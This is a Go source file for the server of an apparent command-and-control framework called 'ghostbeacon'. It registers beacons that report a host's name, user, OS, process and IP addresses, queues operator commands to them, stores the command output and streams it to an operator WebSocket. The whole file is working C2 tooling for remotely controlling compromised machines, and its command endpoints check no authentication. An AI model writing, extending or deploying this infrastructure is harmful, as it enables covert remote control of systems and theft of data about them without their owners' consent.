package server

import (
	"context"
	"encoding/json"
	"net/http"
	"time"

	"github.com/google/uuid"
	"github.com/gorilla/websocket"

	"ghostbeacon/internal/server/logger"
	"ghostbeacon/internal/server/storage"
	"ghostbeacon/pkg/shared"
)

func (s *Server) handleCheckin(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST only", http.StatusMethodNotAllowed)
		return
	}

	var req shared.CheckinRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		s.logger.Error(logger.CategoryError, "check-in JSON decode error: %v", err)
		http.Error(w, "bad request", http.StatusBadRequest)
		return
	}

	if req.BeaconID == "" {
		http.Error(w, "beacon_id required", http.StatusBadRequest)
		return
	}

	ctx, cancel := context.WithTimeout(r.Context(), 5*time.Second)
	defer cancel()

	now := time.Now().UTC()
	if req.SystemInfo != nil {
		s.logger.Info(logger.CategoryBeacon, "Check-in with snapshot: beacon=%s host=%s os=%s",
			req.BeaconID, req.SystemInfo.Hostname, req.SystemInfo.OSName)

		beacon := &storage.Beacon{
			BeaconID:     req.BeaconID,
			Hostname:     req.SystemInfo.Hostname,
			Username:     req.SystemInfo.Username,
			OSName:       req.SystemInfo.OSName,
			OSVersion:    req.SystemInfo.OSVersion,
			Architecture: req.SystemInfo.Architecture,
			PID:          req.SystemInfo.PID,
			CWD:          req.SystemInfo.CWD,
			IPAddresses:  req.SystemInfo.IPAddresses,
			LastSeen:     now,
			IsActive:     true,
		}
		if err := s.store.UpsertBeacon(ctx, beacon); err != nil {
			s.logger.Error(logger.CategoryError, "failed to save beacon: %v", err)
		} else {
			s.logger.Info(logger.CategoryStorage, "Beacon '%s' updated", req.BeaconID)
		}
	} else {
		s.logger.Debug(logger.CategoryBeacon, "Check-in: beacon=%s results=%d", req.BeaconID, len(req.CommandResults))
		if err := s.store.TouchBeacon(ctx, req.BeaconID, now); err != nil {
			s.logger.Error(logger.CategoryError, "failed to touch beacon: %v", err)
		}
	}

	for _, res := range req.CommandResults {
		s.saveResult(ctx, req.BeaconID, res)
	}

	// The beacon discards commands in the response to a snapshot check-in,
	// so the queue is held for its next regular cycle.
	var cmds []shared.Command
	if req.SystemInfo == nil {
		var err error
		cmds, err = s.store.DequeueCommands(ctx, req.BeaconID)
		if err != nil {
			s.logger.Error(logger.CategoryError, "failed to dequeue commands: %v", err)
			cmds = nil
		}
	}

	if cmds == nil {
		cmds = []shared.Command{}
	}
	for _, cmd := range cmds {
		s.sentMu.Lock()
		s.sentCommands[cmd.ID] = cmd
		s.sentMu.Unlock()
		s.logger.Info(logger.CategoryCommand, "Command delivered to beacon '%s': id=%s command=%s",
			req.BeaconID, cmd.ID, cmd.Command)
	}

	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(shared.CheckinResponse{Commands: cmds})
}

func (s *Server) saveResult(ctx context.Context, beaconID string, res shared.CommandResult) {
	completedAt, err := time.Parse("2006-01-02T15:04:05Z", res.Timestamp)
	if err != nil {
		completedAt = time.Now().UTC()
	}

	stored := &storage.Result{
		BeaconID:    beaconID,
		CommandID:   res.CommandID,
		Success:     res.Success,
		Output:      res.Output,
		CompletedAt: completedAt,
	}

	s.sentMu.Lock()
	if cmd, exists := s.sentCommands[res.CommandID]; exists {
		stored.Command = cmd.Command
		stored.Args = cmd.Args
		delete(s.sentCommands, res.CommandID)
	}
	s.sentMu.Unlock()

	if err := s.store.SaveResult(ctx, stored); err != nil {
		s.logger.Error(logger.CategoryError, "failed to save result: %v", err)
		return
	}
	s.logger.Info(logger.CategoryResult, "Result saved: beacon=%s command=%s success=%t output=%d bytes",
		beaconID, res.CommandID, res.Success, len(res.Output))

	s.pushOutput(beaconID, res.Output)
}

// pushOutput forwards result output to the operator socket watching the beacon
func (s *Server) pushOutput(beaconID, output string) {
	s.wsMu.RLock()
	conn, ok := s.wsClients[beaconID]
	s.wsMu.RUnlock()

	if !ok {
		return
	}

	s.logger.Debug(logger.CategoryWebSocket, "Sending to WebSocket: beacon=%s", beaconID)
	if err := conn.WriteMessage(websocket.TextMessage, []byte(output)); err != nil {
		s.logger.Error(logger.CategoryError, "WS write error: %v", err)
	}
}

func (s *Server) handleSendCommand(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST only", http.StatusMethodNotAllowed)
		return
	}

	var req struct {
		BeaconID string `json:"beacon_id"`
		Command  string `json:"command"`
		Args     string `json:"args,omitempty"`
	}
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		http.Error(w, "bad json", http.StatusBadRequest)
		return
	}

	if req.BeaconID == "" || req.Command == "" {
		http.Error(w, "beacon_id and command required", http.StatusBadRequest)
		return
	}

	cmd := shared.Command{
		ID:      uuid.NewString(),
		Command: req.Command,
		Args:    req.Args,
	}

	ctx, cancel := context.WithTimeout(r.Context(), 5*time.Second)
	defer cancel()

	if err := s.store.QueueCommand(ctx, req.BeaconID, cmd); err != nil {
		s.logger.Error(logger.CategoryError, "failed to queue command: %v", err)
		http.Error(w, "failed to queue command", http.StatusInternalServerError)
		return
	}

	s.logger.Info(logger.CategoryCommand, "Command queued: beacon=%s id=%s command=%s args=%s",
		req.BeaconID, cmd.ID, cmd.Command, cmd.Args)

	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]string{
		"status":     "ok",
		"command_id": cmd.ID,
	})
}

func (s *Server) handleWebSocket(w http.ResponseWriter, r *http.Request) {
	beaconID := r.URL.Query().Get("beacon")
	if beaconID == "" {
		http.Error(w, "missing beacon param", http.StatusBadRequest)
		return
	}

	s.logger.Info(logger.CategoryWebSocket, "WebSocket request: beacon=%s", beaconID)

	conn, err := s.upgrader.Upgrade(w, r, nil)
	if err != nil {
		s.logger.Error(logger.CategoryError, "WebSocket upgrade error: %v", err)
		return
	}

	// One socket per beacon: a newer attachment displaces the old one.
	s.wsMu.Lock()
	if old, ok := s.wsClients[beaconID]; ok {
		old.Close()
	}
	s.wsClients[beaconID] = conn
	s.wsMu.Unlock()

	defer func() {
		s.wsMu.Lock()
		if s.wsClients[beaconID] == conn {
			delete(s.wsClients, beaconID)
		}
		s.wsMu.Unlock()
		conn.Close()
		s.logger.Info(logger.CategoryWebSocket, "WebSocket closed: beacon=%s", beaconID)
	}()

	for {
		if _, _, err := conn.ReadMessage(); err != nil {
			return
		}
	}
}
